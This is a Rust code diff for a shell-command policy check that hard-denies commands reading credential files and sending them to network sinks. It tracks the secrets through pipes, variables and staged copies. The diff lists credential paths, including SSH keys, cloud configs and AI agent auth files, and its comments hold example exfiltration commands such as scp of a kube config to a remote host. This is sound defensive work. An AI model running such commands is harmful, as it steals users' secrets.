@@ -1,302 +1,228 @@
 //! `credential-exfiltration`: a credential file read and sent to a network
 //! sink within one command.
 //!
-//! A taint walk over the units: a unit that reads a credential file carries
-//! it; so does every unit its output reaches (pipe, `$(…)`, `<(…)`), every
-//! variable it is assigned to and every unit expanding that variable, and
-//! every file it writes (a staged copy, which later readers then carry). A
-//! network sink that carries a credential, or whose own upload option names
-//! one, is a hard deny. URL text is never a read: `curl https://x/.env` and
-//! `curl -d template=.env.local` send no file.
-
-use std::collections::HashMap;
+//! A taint walk over the commands: a command that reads a credential file
+//! carries it; so does every command whose input, arguments, redirections
+//! or environment hold a carrier's output (pipes, `$(…)`, `<(…)`, variables
+//! and `read`, through the analysis's sources), and every command that reads
+//! a file a carrier wrote earlier (a staged copy). A network sink that
+//! carries a credential, or whose upload options name one, is a hard deny.
+//! URL text is never a read: `curl https://x/.env` and `curl -d
+//! template=.env.local` send no file.
 
 use crate::policy::credentials::is_credential_path;
-use crate::shell::{Flow, Sink, Unit, Word};
+use crate::shell::spec::{Network, Role};
+use crate::shell::{Command, RedirectOp, Sources, Value};
 
-use super::effects::Effect;
-use super::paths::{Resolved, components, glob_component, is_within};
-use super::{Analysis, Category, HardDeny, net};
+use super::facts::Facts;
+use super::paths::{Target, ends_with, is_within};
+use super::{Category, HardDeny, deny, net};
 
-/// How a credential reached a unit.
-#[derive(Debug, Clone, Copy, PartialEq, Eq)]
-enum How {
-    /// The unit itself reads the file.
-    Read,
-    /// It reads a copy staged earlier in the command.
-    StagedFile,
-    Pipe,
-    Substitution,
-    Variable,
-}
-
-#[derive(Debug, Clone)]
-struct Carry {
-    credential: String,
-    how: How,
-}
-
-/// Names a glob in a credential-looking place is tested against.
-const CANDIDATE_NAMES: &[&str] = &[
-    ".env",
-    ".env.local",
-    ".env.production",
-    ".env.development.local",
-    "id_rsa",
-    "id_ed25519",
-    "id_ecdsa",
-    "id_dsa",
-    "credentials",
-    "config",
-    "config.json",
-    ".npmrc",
-    ".netrc",
-    ".pgpass",
-    ".git-credentials",
-    "auth.json",
-    ".credentials.json",
-    "adapter.token",
-    "operator.token",
-    "hmac.key",
+/// Shapes a pattern is tested against for being a credential file.
+const SHAPES: &[&[&str]] = &[
+    &[".env"],
+    &[".env.local"],
+    &[".env.production"],
+    &[".env.development.local"],
+    &[".env.production.local"],
+    &[".ssh", "id_rsa"],
+    &[".ssh", "id_ed25519"],
+    &[".ssh", "id_ecdsa"],
+    &[".ssh", "id_dsa"],
+    &[".aws", "credentials"],
+    &[".kube", "config"],
+    &[".docker", "config.json"],
+    &[".npmrc"],
+    &[".netrc"],
+    &[".pgpass"],
+    &[".git-credentials"],
+    &[".codex", "auth.json"],
+    &[".claude", ".credentials.json"],
+    &[".pi", "agent", "auth.json"],
+    &["adapter.token"],
+    &["operator.token"],
+    &["hmac.key"],
 ];
 
 /// Directories whose recursive read takes credentials along.
 const CREDENTIAL_DIRS: &[&str] = &[".ssh", ".aws", ".kube", ".docker", ".gnupg", ".codex"];
 
-/// A file written by a unit that carried a credential.
-struct Staged {
-    path: String,
-    /// The credential it holds a copy of.
-    credential: String,
-}
-
-/// How `r` holds a credential; for a staged copy, also the original.
-fn is_credential(
-    r: &Resolved,
-    recursive: bool,
-    staged: &[Staged],
-) -> Option<(How, Option<String>)> {
-    if let Some(copy) = staged.iter().find(|s| is_within(&r.path, &s.path)) {
-        return Some((How::StagedFile, Some(copy.credential.clone())));
+fn credential(f: &mut Facts<'_>, target: &Target, tree: bool) -> bool {
+    let direct = match target {
+        Target::Exact(p) | Target::Partial(p) => is_credential_path(p),
+        Target::Pattern(_) => SHAPES.iter().any(|s| ends_with(target, s)),
+    };
+    if direct {
+        return true;
     }
-    let parts = components(&r.path);
-    let last = parts.last().copied().unwrap_or("");
-    if !r.glob {
-        let hit = is_credential_path(&r.path) || (recursive && CREDENTIAL_DIRS.contains(&last));
-        return hit.then_some((How::Read, None));
+    if !tree {
+        return false;
     }
-    let dir = parts
-        .get(..parts.len().saturating_sub(1))
-        .map(|d| d.join("/"))
-        .unwrap_or_default();
-    let hit = CANDIDATE_NAMES
+    if CREDENTIAL_DIRS.iter().any(|d| ends_with(target, &[d])) {
+        return true;
+    }
+    let home = f.env.home.clone();
+    CREDENTIAL_DIRS
         .iter()
-        .any(|name| glob_component(last, name) && is_credential_path(&format!("/{dir}/{name}")))
-        || (recursive && CREDENTIAL_DIRS.iter().any(|d| glob_component(last, d)));
-    hit.then_some((How::Read, None))
+        .any(|d| f.covers(target, &format!("{home}/{d}")))
 }
 
-/// Commands that print file names rather than file contents.
-fn prints_names_only(unit: &Unit) -> bool {
+/// Commands that print names rather than contents.
+fn names_only(cmd: &Command) -> bool {
     matches!(
-        unit.name(),
-        Some("echo" | "printf" | "ls" | "find" | "stat")
+        cmd.name(),
+        Some(
+            "echo"
+                | "printf"
+                | "ls"
+                | "find"
+                | "stat"
+                | "realpath"
+                | "readlink"
+                | "basename"
+                | "dirname"
+                | "file"
+                | "test"
+                | "["
+                | "wc"
+        )
     )
 }
 
-/// The credential a unit reads itself, if any.
-fn direct_read(a: &Analysis<'_>, i: usize, unit: &Unit, staged: &[Staged]) -> Option<Carry> {
-    if prints_names_only(unit) {
+/// Roles through which a command takes a file's contents (a move or a
+/// link carries them to the new name too).
+const READS: &[Role] = &[
+    Role::Read,
+    Role::ReadTree,
+    Role::Upload,
+    Role::MoveAway,
+    Role::LinkTarget,
+];
+
+/// A file a carrier wrote, with the credential it copies.
+struct Staged {
+    path: String,
+    credential: String,
+    by: usize,
+}
+
+/// What makes command `i` carry a credential.
+#[derive(Debug, Clone)]
+struct Carry {
+    credential: String,
+    how: &'static str,
+}
+
+fn direct_read(f: &mut Facts<'_>, i: usize, staged: &[Staged]) -> Option<Carry> {
+    let cmd = f.command(i)?;
+    if names_only(cmd) {
         return None;
     }
-    for touch in a.effects_of(i) {
-        let (effect, word) = (touch.effect, &touch.word);
-        let Effect::Read { recursive } = effect else {
-            continue;
-        };
-        if word.display().contains("://") {
+    let recursive = f
+        .effects_of(i)
+        .is_some_and(|e| e.has(crate::shell::spec::Modifier::Recursive));
+    for touch in f.touches(i) {
+        if !READS.contains(&touch.role) {
             continue;
         }
-        for r in &touch.targets {
-            if let Some((how, original)) = is_credential(r, recursive, staged) {
+        for target in &touch.targets {
+            if let Target::Exact(p) = target
+                && let Some(s) = staged.iter().find(|s| s.by < i && is_within(p, &s.path))
+            {
                 return Some(Carry {
-                    credential: original.unwrap_or_else(|| word.display()),
-                    how,
+                    credential: s.credential.clone(),
+                    how: "staged",
                 });
             }
-        }
-    }
-    // `socat FILE:.env TCP:host:port`
-    if unit.name() == Some("socat") {
-        for word in unit.args() {
-            let text = word.display();
-            let Some((kind, rest)) = text.split_once(':') else {
-                continue;
-            };
-            if matches!(
-                kind.to_ascii_uppercase().as_str(),
-                "FILE" | "OPEN" | "GOPEN"
-            ) {
-                let path = rest.split(',').next().unwrap_or("");
-                let cwds = a.cwds.get(i).map(Vec::as_slice).unwrap_or(&[]);
-                for r in
-                    super::paths::resolve(&Word::literal_text(path), &a.env.home, cwds, &a.vars)
-                {
-                    if let Some((how, original)) = is_credential(&r, false, staged) {
-                        return Some(Carry {
-                            credential: original.unwrap_or_else(|| path.to_owned()),
-                            how,
-                        });
-                    }
-                }
+            if credential(f, target, touch.role == Role::ReadTree || recursive) {
+                return Some(Carry {
+                    credential: touch.value.to_string(),
+                    how: "reads",
+                });
             }
         }
     }
     None
 }
 
-fn words_of(unit: &Unit) -> impl Iterator<Item = &Word> {
-    unit.argv
-        .iter()
-        .chain(unit.redirects.iter().map(|r| &r.target))
-        .chain(unit.assignments.iter().map(|x| &x.value))
+fn sources_of(cmd: &Command) -> Sources {
+    let mut s = cmd.stdin_from.clone();
+    for a in &cmd.argv {
+        s.extend(&a.sources());
+    }
+    for r in &cmd.redirects {
+        s.extend(&r.target.sources());
+    }
+    for (_, v) in &cmd.assignments {
+        s.extend(&v.sources());
+    }
+    s
 }
 
-/// A sink that really leaves the machine (`scp` only with a remote operand).
-fn is_network_sink(unit: &Unit) -> bool {
-    match unit.name() {
-        Some("scp" | "rsync" | "sftp") => unit.args().iter().any(|w| {
-            let text = w.display();
-            !text.starts_with('-')
-                && text
-                    .split_once(':')
-                    .is_some_and(|(host, _)| !host.is_empty() && !host.contains('/'))
-        }),
-        _ => net::is_sink(unit),
-    }
-}
-
-#[expect(
-    clippy::too_many_lines,
-    reason = "predates the 80-line limit; split by issue 8"
-)]
-pub(crate) fn check(a: &Analysis<'_>) -> Option<HardDeny> {
-    let units = &a.script.units;
-    if !units.iter().any(is_network_sink) {
-        return None;
-    }
-    let mut carried: Vec<Option<Carry>> = vec![None; units.len()];
+/// The carriers of every command, to a fixpoint.
+fn carriers(f: &mut Facts<'_>) -> (Vec<Option<Carry>>, Vec<Staged>) {
+    let n = f.analysis.commands.len();
+    let mut carried: Vec<Option<Carry>> = vec![None; n];
     let mut staged: Vec<Staged> = Vec::new();
-    let mut tainted: HashMap<String, String> = HashMap::new();
-    // Each round adds at least one carrier, variable or staged file, so the
-    // loop ends; the bound is a guard, and the walk is monotone.
-    for _ in 0..=units.len() + a.script.bindings.len() + 1 {
+    for _ in 0..=n.min(256) {
         let mut changed = false;
-        for (i, unit) in units.iter().enumerate() {
+        for i in 0..n {
             if carried.get(i).is_some_and(Option::is_some) {
                 continue;
             }
-            let mut found = direct_read(a, i, unit, &staged);
-            if found.is_none() {
-                for &source in &unit.sources {
-                    let Some(Some(from)) = carried.get(source) else {
-                        continue;
-                    };
-                    let flow = units
-                        .get(source)
-                        .and_then(|s| {
-                            s.sinks.iter().find_map(|k| match k {
-                                Sink::Unit { index, flow } if *index == i => Some(*flow),
-                                Sink::Unit { .. } | Sink::Variable(_) => None,
-                            })
-                        })
-                        .unwrap_or(Flow::Pipe);
-                    let how = match (from.how, flow) {
-                        (How::StagedFile | How::Variable, _) => from.how,
-                        (_, Flow::Pipe) => How::Pipe,
-                        (_, Flow::Substitution | Flow::ProcessSubstitution) => How::Substitution,
-                    };
-                    found = Some(Carry {
-                        credential: from.credential.clone(),
-                        how,
-                    });
-                    break;
+            let mut found = direct_read(f, i, &staged);
+            if found.is_none()
+                && let Some(cmd) = f.command(i)
+            {
+                let sources = sources_of(cmd);
+                found = sources.iter().find_map(|s| {
+                    carried.get(s).cloned().flatten().map(|c| Carry {
+                        credential: c.credential,
+                        how: if cmd.stdin_from.contains(s) {
+                            "pipe"
+                        } else {
+                            "substitution"
+                        },
+                    })
+                });
+                // A wrapper's command carries what the wrapper carries, and
+                // a wrapper prints what its command prints.
+                if found.is_none()
+                    && let Some(p) = cmd.parent
+                {
+                    found = carried.get(p).cloned().flatten();
                 }
-            }
-            if found.is_none() {
-                found = words_of(unit)
-                    .flat_map(Word::variables)
-                    .find_map(|v| tainted.get(v))
-                    .map(|credential| Carry {
-                        credential: credential.clone(),
-                        how: How::Variable,
-                    });
-            }
-            if let Some(carry) = found {
-                if let Some(slot) = carried.get_mut(i) {
-                    *slot = Some(carry);
-                }
-                changed = true;
-            }
-        }
-        for (i, unit) in units.iter().enumerate() {
-            let Some(Some(carry)) = carried.get(i) else {
-                continue;
-            };
-            let mut names: Vec<&str> = unit
-                .sinks
-                .iter()
-                .filter_map(|sink| match sink {
-                    Sink::Variable(name) => Some(name.as_str()),
-                    Sink::Unit { .. } => None,
-                })
-                .collect();
-            // `sudo K=$(cat key) …`: an assignment word whose substitution
-            // carries the secret taints the name (whichever shell sets it).
-            if carry.how == How::Substitution {
-                names.extend(
-                    unit.assignments
-                        .iter()
-                        .filter(|x| x.value.has_substitution())
-                        .map(|x| x.name.as_str()),
-                );
-            }
-            for name in names {
-                if !tainted.contains_key(name) {
-                    tainted.insert(name.to_owned(), carry.credential.clone());
-                    changed = true;
-                }
-            }
-            for touch in a.effects_of(i) {
-                let effect = touch.effect;
-                if effect != Effect::Write {
-                    continue;
-                }
-                for r in &touch.targets {
-                    if !r.glob && r.path != "/dev/null" && !staged.iter().any(|s| s.path == r.path)
-                    {
-                        staged.push(Staged {
-                            path: r.path.clone(),
-                            credential: carry.credential.clone(),
+                if found.is_none() {
+                    found = (0..n)
+                        .filter(|&j| f.command(j).is_some_and(|c| c.parent == Some(i)))
+                        .find_map(|j| carried.get(j).cloned().flatten())
+                        .map(|c| Carry {
+                            credential: c.credential,
+                            how: "pipe",
                         });
-                        changed = true;
+                }
+            }
+            if let Some(c) = found {
+                for touch in f.touches(i) {
+                    if !matches!(touch.role, Role::Write) {
+                        continue;
+                    }
+                    for target in &touch.targets {
+                        if let Target::Exact(p) = target
+                            && p != "/dev/null"
+                            && !staged.iter().any(|s| s.path == *p)
+                        {
+                            staged.push(Staged {
+                                path: p.clone(),
+                                credential: c.credential.clone(),
+                                by: i,
+                            });
+                        }
                     }
                 }
-            }
-        }
-        for binding in &a.script.bindings {
-            let name = &binding.assignment.name;
-            if tainted.contains_key(name) {
-                continue;
-            }
-            if let Some(credential) = binding
-                .assignment
-                .value
-                .variables()
-                .find_map(|v| tainted.get(v))
-                .cloned()
-            {
-                tainted.insert(name.clone(), credential);
+                if let Some(slot) = carried.get_mut(i) {
+                    *slot = Some(c);
+                }
                 changed = true;
             }
         }
@@ -304,65 +230,194 @@ pub(crate) fn check(a: &Analysis<'_>) -> Option<HardDeny> {
             break;
         }
     }
-    for (i, unit) in units.iter().enumerate() {
-        if !is_network_sink(unit) {
-            continue;
+    (carried, staged)
+}
+
+/// A network sink: a client, stream or copy tool, or a `/dev/tcp` socket.
+fn sink(f: &Facts<'_>, i: usize) -> Option<Network> {
+    let cmd = f.command(i)?;
+    let socket = cmd.redirects.iter().any(|r| {
+        (r.op.writes() || r.op == RedirectOp::ReadWrite)
+            && r.target.candidates().iter().any(|t| {
+                let h = t.known_prefix();
+                h.starts_with("/dev/tcp/") || h.starts_with("/dev/udp/")
+            })
+    });
+    if socket {
+        return Some(Network::Stream);
+    }
+    match f.effects_of(i)?.network {
+        Network::None => None,
+        other => Some(other),
+    }
+}
+
+/// Files an upload option of command `i` sends: `-T f`, `-d @f`,
+/// `-F k=@f`, `-H @f`, `--variable k@f`.
+fn uploaded(f: &Facts<'_>, i: usize) -> Vec<(Value, &'static str)> {
+    let Some(eff) = f.effects_of(i) else {
+        return Vec::new();
+    };
+    let mut out = Vec::new();
+    for (role, value) in &eff.items {
+        let file = match role {
+            Role::Upload => Some(value.clone()),
+            Role::Data | Role::Header => {
+                crate::shell::effects::after_prefix(value, "@").or_else(|| {
+                    // `--data-urlencode name@file`.
+                    value
+                        .candidates()
+                        .iter()
+                        .any(|t| {
+                            let h = t.known_prefix();
+                            h.find('@')
+                                .is_some_and(|at| h.find('=').is_none_or(|eq| at < eq))
+                        })
+                        .then(|| crate::shell::effects::after_marker(value, "@"))
+                        .flatten()
+                })
+            }
+            Role::FormData => crate::shell::effects::after_marker(value, "=@")
+                .or_else(|| crate::shell::effects::after_marker(value, "=<"))
+                .map(|v| trim_form_type(&v)),
+            Role::Variable => crate::shell::effects::after_marker(value, "@"),
+            _ => None,
+        };
+        if let Some(file) = file
+            && file.as_known() != Some("-")
+            && file.as_known() != Some("")
+        {
+            out.push((file, option_label(*role)));
         }
-        let sink_name = unit.name().unwrap_or("a socket");
-        for (file, option) in net::uploaded_files(unit) {
-            for r in a.resolve(i, &file) {
-                if let Some((how, original)) = is_credential(&r, false, &staged) {
-                    let (rule, what) = match original {
-                        Some(original) if how == How::StagedFile => (
-                            "credential-exfiltration/staged-file",
-                            format!("a staged copy of the credential file `{original}`"),
+    }
+    out
+}
+
+fn option_label(role: Role) -> &'static str {
+    match role {
+        Role::Upload => "an upload option",
+        Role::Data => "a data option",
+        Role::FormData => "a form field",
+        Role::Header => "a header file",
+        Role::Variable => "a variable file",
+        _ => "an option",
+    }
+}
+
+/// `file;type=text/plain`: the file name ends at `;`.
+fn trim_form_type(v: &Value) -> Value {
+    let candidates = v
+        .candidates()
+        .iter()
+        .map(|t| match t.as_known() {
+            Some(s) => crate::shell::Text::lit(s.split(';').next().unwrap_or("")),
+            None => t.clone(),
+        })
+        .collect();
+    Value::from_candidates(candidates).unwrap_or_else(|| v.clone())
+}
+
+pub(super) fn check(f: &mut Facts<'_>) -> Option<HardDeny> {
+    let n = f.analysis.commands.len();
+    let sinks: Vec<(usize, Network)> = (0..n).filter_map(|i| sink(f, i).map(|s| (i, s))).collect();
+    if sinks.is_empty() {
+        return None;
+    }
+    let (carried, staged) = carriers(f);
+    for (i, kind) in sinks {
+        let Some(cmd) = f.command(i) else { continue };
+        let name = cmd.name().unwrap_or("a socket").to_owned();
+        let cwd = cmd.cwd.clone();
+        for (file, option) in uploaded(f, i) {
+            for target in super::paths::resolve(&file, &cwd) {
+                if let Target::Exact(p) = &target
+                    && let Some(s) = staged.iter().find(|s| s.by < i && is_within(p, &s.path))
+                {
+                    return deny(
+                        Category::CredentialExfiltration,
+                        "credential-exfiltration/staged-file",
+                        format!(
+                            "`{name}` uploads `{file}` ({option}), a staged copy of the credential file `{}`",
+                            s.credential
                         ),
-                        _ => (
-                            "credential-exfiltration/upload-option",
-                            "a credential file".to_owned(),
-                        ),
-                    };
-                    return Some(HardDeny {
-                        category: Category::CredentialExfiltration,
-                        rule_id: rule,
-                        rationale: format!(
-                            "`{sink_name} {option}` uploads `{}`, {what}",
-                            file.display()
-                        ),
-                    });
+                    );
+                }
+                if credential(f, &target, true) {
+                    return deny(
+                        Category::CredentialExfiltration,
+                        "credential-exfiltration/upload-option",
+                        format!("`{name}` uploads the credential file `{file}` ({option})"),
+                    );
                 }
             }
+        }
+        if kind == Network::RemoteCopy
+            && let Some(d) = remote_copy(f, i, &name)
+        {
+            return Some(d);
         }
         let Some(Some(carry)) = carried.get(i) else {
             continue;
         };
+        if kind == Network::RemoteCopy && carry.how == "reads" {
+            // A copy tool reading a credential only exfiltrates to a remote
+            // destination (checked above).
+            continue;
+        }
         let (rule, how) = match carry.how {
-            How::Read => ("credential-exfiltration/sink-reads-file", "reads"),
-            How::StagedFile => (
+            "reads" => ("credential-exfiltration/sink-reads-file", "reads"),
+            "staged" => (
                 "credential-exfiltration/staged-file",
                 "sends a staged copy of",
             ),
-            How::Pipe => (
+            "pipe" => (
                 "credential-exfiltration/pipe-to-sink",
                 "receives through a pipe",
             ),
-            How::Substitution => (
+            _ => (
                 "credential-exfiltration/substitution",
-                "receives through a substitution",
-            ),
-            How::Variable => (
-                "credential-exfiltration/staged-variable",
-                "receives through a shell variable",
+                "receives through a substitution or variable",
             ),
         };
-        return Some(HardDeny {
-            category: Category::CredentialExfiltration,
-            rule_id: rule,
-            rationale: format!(
-                "network sink `{sink_name}` {how} the credential file `{}`",
+        return deny(
+            Category::CredentialExfiltration,
+            rule,
+            format!(
+                "network sink `{name}` {how} the credential file `{}`",
                 carry.credential
             ),
-        });
+        );
+    }
+    None
+}
+
+/// `scp ~/.kube/config host:/tmp/`: a credential source with a remote
+/// destination.
+fn remote_copy(f: &mut Facts<'_>, i: usize, name: &str) -> Option<HardDeny> {
+    let touches = f.touches(i);
+    let dest = touches.iter().find(|t| t.role == Role::Write)?;
+    if !net::is_remote_operand(&dest.value) {
+        return None;
+    }
+    for touch in touches
+        .iter()
+        .filter(|t| matches!(t.role, Role::ReadTree | Role::Read))
+    {
+        if net::is_remote_operand(&touch.value) {
+            continue;
+        }
+        for target in &touch.targets {
+            if credential(f, target, true) {
+                return deny(
+                    Category::CredentialExfiltration,
+                    "credential-exfiltration/remote-copy",
+                    format!(
+                        "`{name}` copies the credential file `{}` to `{}`",
+                        touch.value, dest.value
+                    ),
+                );
+            }
+        }
     }
     None
 }
